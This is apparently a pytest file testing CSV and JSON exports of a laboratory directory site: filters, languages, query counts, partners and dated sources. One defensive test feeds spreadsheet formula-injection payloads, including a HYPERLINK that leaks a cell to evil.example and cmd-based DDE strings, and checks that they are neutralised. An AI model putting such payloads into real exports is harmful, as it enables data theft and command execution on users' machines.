import csv
import datetime
import io
import json

import pytest

from laboratories.models import Partner
from provenance.dates import DatePrecision
from provenance.models import Source
from tests.factories import LabFactory, PartnerFactory, ThemeFactory, bulk_labs

pytestmark = pytest.mark.django_db


def body(response):
    return b"".join(response.streaming_content).decode()


@pytest.fixture
def labs():
    robots = ThemeFactory(slug="robotique", name_fr="Robotique", name_en="Robotics")
    japan = LabFactory(
        name_fr="Robotique à Tsukuba",
        name_en="Robotics in Tsukuba",
        slug="jrl",
        acronym="JRL",
        city_fr="Tsukuba",
        city_en="Tsukuba",
        latitude="36.08",
        longitude="140.08",
        countries=["JP", "FR"],
    )
    japan.themes.add(robots)
    japan.partners.add(PartnerFactory(kind=Partner.Kind.COMPANY))
    brazil = LabFactory(name_fr="Maths à Rio", name_en="", slug="impa", countries=["BR"])
    return japan, brazil


def test_csv_holds_the_filtered_list_in_the_page_language(client, labs):
    response = client.get("/fr/laboratoires/?country=jp&format=csv")
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert "attachment" in response["Content-Disposition"]
    rows = list(csv.DictReader(io.StringIO(body(response))))
    assert len(rows) == 1
    row = rows[0]
    assert row["slug"] == "jrl"
    assert row["name"] == "Robotique à Tsukuba"
    assert row["countries"] == "FR;JP"
    assert row["themes"] == "robotique"
    assert row["industry"] == "yes"
    assert row["status"] == "active"
    assert row["latitude"] == "36.08"
    assert row["url"] == "http://testserver/fr/laboratoires/jrl/"


def test_json_holds_the_filtered_list(client, labs):
    response = client.get("/en/labs/?format=json&sort=name")
    assert response.status_code == 200
    results = json.loads(body(response))["results"]
    assert [row["slug"] for row in results] == ["impa", "jrl"]
    # No English name: the French one, as on the page.
    assert results[0]["name"] == "Maths à Rio"
    assert results[1]["countries"] == ["FR", "JP"]
    assert results[1]["industry"] is True
    assert results[1]["url"] == "http://testserver/en/labs/jrl/"


def test_exports_hold_every_match_not_only_one_page(client):
    bulk_labs(45)
    response = client.get("/en/labs/?format=json&page=2")
    assert len(json.loads(body(response))["results"]) == 45
    lines = body(client.get("/en/labs/?format=csv")).splitlines()
    assert len(lines) == 46  # the header and every lab


def test_the_page_links_to_both_exports_with_its_filters(client, labs):
    page = client.get("/en/labs/?country=jp&page=1").content.decode()
    assert 'href="/en/labs/?country=jp&amp;format=csv"' in page
    assert 'href="/en/labs/?country=jp&amp;format=json"' in page


@pytest.mark.parametrize("export_format", ["csv", "json"])
def test_exports_run_a_constant_number_of_queries(
    client, django_assert_max_num_queries, export_format
):
    bulk_labs(5, prefix="few")
    # Savepoints of the request, the three choice lists, and one query for every row.
    with django_assert_max_num_queries(6) as few:
        body(client.get(f"/en/labs/?format={export_format}"))
    bulk_labs(300, prefix="many")
    with django_assert_max_num_queries(len(few)):
        response = client.get(f"/en/labs/?format={export_format}")
        content = body(response)
    assert content.count("many-") >= 300


@pytest.mark.parametrize(
    "typed",
    [
        '=HYPERLINK("https://evil.example/?"&A1;"clic")',
        "+1+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_csv_text_is_never_a_formula_and_numbers_stay_numbers(client, typed):
    LabFactory(
        slug="formula",
        name_fr=typed,
        acronym=typed[:20],
        city_fr=typed,
        latitude="-33.45",
        longitude="-70.66",
    )
    response = client.get("/fr/laboratoires/?format=csv")
    (row,) = csv.DictReader(io.StringIO(body(response), newline=""))
    assert row["name"] == row["city"] == "'" + typed
    assert row["acronym"] == "'" + typed[:20]
    assert row["latitude"] == "-33.45"
    assert row["longitude"] == "-70.66"
    # The JSON is read by programs: it keeps the values as they are.
    (result,) = json.loads(body(client.get("/fr/laboratoires/?format=json")))["results"]
    assert result["name"] == typed
    assert result["latitude"] == -33.45


def test_exports_carry_each_labs_partners_and_sources(client, labs):
    japan, brazil = labs
    japan.partners.add(PartnerFactory(slug="tsukuba-university"))
    Source.objects.create(
        entry=japan,
        url="https://www.cnrs.fr/jrl",
        publisher="CNRS",
        published_on=datetime.date(2021, 3, 1),
        published_precision=DatePrecision.MONTH,
        read_on=datetime.date(2026, 11, 30),
    )
    Source.objects.create(
        entry=japan, document="Booklet", publisher="CNRS Japan", read_on=datetime.date(2026, 6, 2)
    )
    results = json.loads(body(client.get("/en/labs/?format=json&sort=name")))["results"]
    assert results[0]["sources"] == []  # nothing says the Brazilian entry is current
    jrl = results[1]
    assert "tsukuba-university" in jrl["partners"]
    assert [(s["publisher"], s["as_of"]) for s in jrl["sources"]] == [
        ("CNRS Japan", "2026-06-02"),
        ("CNRS", "2021-03"),
    ]
    assert jrl["sources"][1]["url"] == "https://www.cnrs.fr/jrl"
    assert jrl["sources"][0]["document"] == "Booklet"

    rows = list(csv.DictReader(io.StringIO(body(client.get("/en/labs/?country=jp&format=csv")))))
    assert "tsukuba-university" in rows[0]["partners"].split(";")
    assert rows[0]["sources"] == (
        "CNRS Japan, 2026-06-02, Booklet; CNRS, 2021-03, https://www.cnrs.fr/jrl"
    )
